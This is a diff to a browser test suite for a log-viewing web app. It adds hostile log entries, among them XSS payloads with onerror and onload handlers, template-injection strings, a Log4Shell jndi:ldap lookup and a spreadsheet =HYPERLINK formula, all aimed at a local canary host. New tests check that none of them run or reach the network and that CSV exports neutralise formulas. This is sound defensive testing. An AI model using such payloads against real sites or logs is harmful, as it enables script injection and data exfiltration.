@@ -11,11 +11,12 @@
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { Browser, BrowserContext, Page, Worker } from 'playwright-core';
 import { createHash } from 'node:crypto';
-import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, rmSync, writeFileSync, readFileSync } from 'node:fs';
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
+import { parseCsv, REQUEST_COLUMNS } from '../../src/lib/csv';
 import { SAMPLE, SHARED, cliSessions, confirmImport, fileInput, keepEverything, launchBrowser, readTotal, startSite, waitForTotal, watchErrors } from './browser';
 
 const REAL = path.join(SHARED, 'access/logparser/hackers-access.log');
@@ -100,13 +101,16 @@ function hostileLog(canaryUrl: string): string {
     `/page/${encodeURIComponent(`<iframe src=${c}/frame>`)}`,
     `/api/v1/items?id={{constructor.constructor('fetch(\\'${c}/tpl\\')')()}}`,
     `/static/${c.replace('http://', '')}/style.css`,
+    `/x?<img src=x onerror="window.__pwned=1;document.title='pwned'">`,
     '/index.html'
   ];
   const agents = [
     `Mozilla/5.0 <img src=${c}/ua.png>`,
     `<link rel=stylesheet href=${c}/ua.css>`,
     `curl/8.0 <svg onload=fetch('${c}/svg')>`,
-    `\${jndi:ldap://${c.replace('http://', '')}/a}`
+    `\${jndi:ldap://${c.replace('http://', '')}/a}`,
+    `=HYPERLINK("${c}/csv","click")`,
+    `{{constructor.constructor('window.__pwned=2')()}}`
   ];
   const refs = [`${c}/referrer`, `javascript:fetch('${c}/ref')`, `<a href=${c}/a>x</a>`, '-'];
   for (let i = 0; i < 90; i++) {
@@ -282,6 +286,7 @@ describe('no egress', () => {
 
     await visitSections(page);
 
+
     // The recorder sees the worker's traffic too: the core and the sample were fetched from the site.
     const urls = requests.map((r) => r.url);
     expect(urls.some((u) => /\/workers\/assets\/core-[^/]*\.wasm$/.test(u)), 'the core .wasm among the requests').toBe(true);
@@ -296,6 +301,9 @@ describe('no egress', () => {
     expect(elsewhere, 'requests to another origin').toEqual([]);
     expect(await violations(), 'Content-Security-Policy violations').toEqual([]);
 
+    // Nothing from the logs ran: the payloads that would set a global or rename the page did not.
+    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
+    expect(await page.title()).toBe('SessionLens');
     // No inline event handler anywhere in the live page, and no element from the logs became markup.
     const handlers = await page.evaluate(() =>
       [...document.querySelectorAll('*')].flatMap((el) =>
@@ -363,6 +371,28 @@ describe('the policy is in force', () => {
   });
 });
 
+
+describe('hostile content in exports', () => {
+  it("a session's CSV holds spreadsheet formulas from the log as text, not formulas", async () => {
+    const hostile = path.join(tmp, 'hostile-csv.log');
+    writeFileSync(hostile, hostileLog(canary.url));
+    await keepEverything(page);
+    await fileInput(page).setInputFiles(hostile);
+    await confirmImport(page);
+    await waitForTotal(page);
+    const formulaRow = page.locator('[data-testid="session-row"]', { hasText: 'HYPERLINK' }).first();
+    await formulaRow.locator('[data-testid="session-open"]').click();
+    await page.locator('[data-testid="request-row"]').first().waitFor({ timeout: 10_000 });
+    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid="requests-csv"]').click()]);
+    const csv = parseCsv(readFileSync((await download.path())!, 'utf8'));
+    const agents = csv.slice(1).map((c) => c[REQUEST_COLUMNS.indexOf('user_agent')]);
+    expect(agents.length).toBeGreaterThan(0);
+    expect(agents.filter((a) => a.includes('HYPERLINK')).every((a) => a.startsWith(`'=HYPERLINK(`)), JSON.stringify(agents)).toBe(true);
+    await page.locator('[data-testid="detail-close"]').click();
+    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
+  });
+});
+
 /** Every part of the page a user would look at: a session's detail, the filters, the endpoints, the settings. */
 async function visitSections(page: Page): Promise<void> {
   for (const id of ['sessions-table', 'session-filters', 'endpoints-table', 'grouping-settings']) {
@@ -377,6 +407,8 @@ async function visitSections(page: Page): Promise<void> {
     const detail = page.locator('[data-testid="session-detail"]');
     await detail.waitFor({ state: 'visible', timeout: 10_000 });
     await detail.scrollIntoViewIfNeeded();
+    // its requests, log content as text (the request table loads after the detail)
+    await page.locator('[data-testid="request-row"]').first().waitFor({ timeout: 10_000 });
     const close = page.locator('[data-testid="detail-close"]');
     if (await close.count()) await close.click();
   }
